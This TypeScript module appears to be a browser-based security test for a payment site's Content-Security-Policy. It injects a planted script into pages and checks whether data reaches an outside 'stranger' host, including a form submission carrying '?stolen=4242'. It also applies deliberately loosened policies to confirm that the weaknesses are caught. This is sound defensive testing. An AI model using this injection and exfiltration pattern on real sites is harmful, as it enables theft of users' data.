import { setTimeout as sleep } from 'node:timers/promises';
import type { BrowserContext, Page } from 'playwright-core';
import { documentOf } from '../../../apps/web/src/ui/document-of.ts';
import { probe, type Attack, type Probe } from '../attack-kind.ts';
import type { Target } from '../target/target.ts';
import { startWeakFront } from '../weak/weak-front.ts';
import { ask, inTurns } from '../wire/ask.ts';
import { CHANNELS, plantedScript, submitForm, type ChannelName } from './carry-out-script.ts';

const PAGES = [
  '/',
  '/pay',
  '/login',
  '/pay-step',
  '/fines',
  '/feedback',
  '/share.html',
  '/receipt',
  '/order',
  '/recharge-list',
] as const;
const SCRIPT_PATH = '/assets/planted.js';
/**
 * A payer's bank can be any bank, so frames and forms on pay pages are open to https. A prefetch is open too: browsers allow it
 * as soon as any directive allows the address.
 */
const OPEN_TO_BANKS: readonly ChannelName[] = ['frame', 'framedForm', 'form', 'prefetch'];

const isStatedOpen = (path: string, name: ChannelName): boolean =>
  documentOf(path) === 'pay' && OPEN_TO_BANKS.includes(name);

/** Waiting time for requests that leave after the script has ended: forms, frames, styles. */
const LATE_MS = 700;
const AT_ONCE = PAGES.length - 1;
const RUNS_WITHIN_MS = 15_000;

let visits = 0;

/** Serves the page with nginx's own headers and adds a script that the policy accepts as ours. */
async function plantScript(
  target: Target,
  context: BrowserContext,
  path: string,
  code: string,
): Promise<void> {
  const answer = await ask(target, { path });
  if (answer === null) throw new Error(`${path} is not served`);
  const headers = Object.fromEntries([...answer.headers].filter(([name]) => name !== 'content-length'));
  const body = Buffer.from(
    answer.body.replace(/<\/body>|$/, `<script src="${SCRIPT_PATH}"></script>$&`),
    'latin1',
  );
  await context.route(`https://${target.host}${path}`, (route) =>
    route.fulfill({ status: answer.status, headers, body }),
  );
  await context.route(`https://${target.host}${SCRIPT_PATH}`, (route) =>
    route.fulfill({ contentType: 'text/javascript', body: code }),
  );
}

/** Console lines of the planted script. They are collected as they come, because a channel may navigate the page away. */
function linesOf(page: Page): { readonly said: ReadonlySet<string>; readonly done: Promise<void> } {
  const said = new Set<string>();
  const done = new Promise<void>((isDone, isLate) => {
    const limit = setTimeout(() => isLate(new Error('the planted script did not end')), RUNS_WITHIN_MS);
    page.on('console', (message) => {
      said.add(message.text());
      if (message.text() !== 'planted: done') return;
      clearTimeout(limit);
      isDone();
    });
  });
  return { said, done };
}

async function tryPage(target: Target, path: string): Promise<Probe[]> {
  visits += 1;
  const mark = `/carried-${process.pid}-${visits}`;
  const stranger = `https://${target.stranger.host}`;
  const context = await target.openVisitor();
  try {
    await plantScript(target, context, path, plantedScript(stranger, mark));
    const page = await context.newPage();
    const { said, done } = linesOf(page);
    await page.goto(`https://${target.host}${path}`, { waitUntil: 'domcontentloaded' });
    await done;
    await sleep(LATE_MS);
    await page.evaluate(submitForm, `${stranger}${mark}/form?stolen=4242`);
    await sleep(LATE_MS);
    const arrived = new Set(
      target.stranger.arrivals(mark).map(({ path: at }) => at.slice(mark.length + 1).split(/[./?]/)[0]),
    );
    const judged = (Object.keys(CHANNELS) as ChannelName[]).filter((name) => !isStatedOpen(path, name));
    return judged.map((name) =>
      probe(
        `${path}: ${CHANNELS[name].name}`,
        arrived.has(name) ? 'arrived at a stranger' : said.has(`planted: ${name}`) ? 'ran' : null,
      ),
    );
  } finally {
    await context.close();
  }
}

const loosened = (directive: RegExp, by: string) => (target: Target) =>
  startWeakFront(target, {
    changeAnswer(answer) {
      const policy = answer.headers['content-security-policy'] ?? '';
      answer.headers['content-security-policy'] = policy.replace(directive, by);
    },
  });

/** A script that was injected tries to send data out and to load more script. */
export const contentPolicy: Attack = {
  name: 'content policy, by a planted script',
  tool: 'browser',
  async *run(target) {
    const [first, ...others] = PAGES;
    yield* await tryPage(target, first);
    for await (const probes of inTurns(others, AT_ONCE, (path) => tryPage(target, path))) yield* probes;
  },
  plants: [
    {
      weakness: 'pictures from everywhere',
      reported: /a picture: arrived/,
      start: loosened(/img-src [^;]*/, 'img-src *'),
    },
    {
      weakness: 'calls to everywhere',
      reported: /a call: arrived/,
      start: loosened(/connect-src [^;]*/, 'connect-src *'),
    },
    {
      weakness: 'scripts written into the page',
      reported: /an inline script: ran/,
      start: loosened(/script-src [^;]*/, "script-src 'self' 'unsafe-inline' 'unsafe-eval'"),
    },
  ],
};
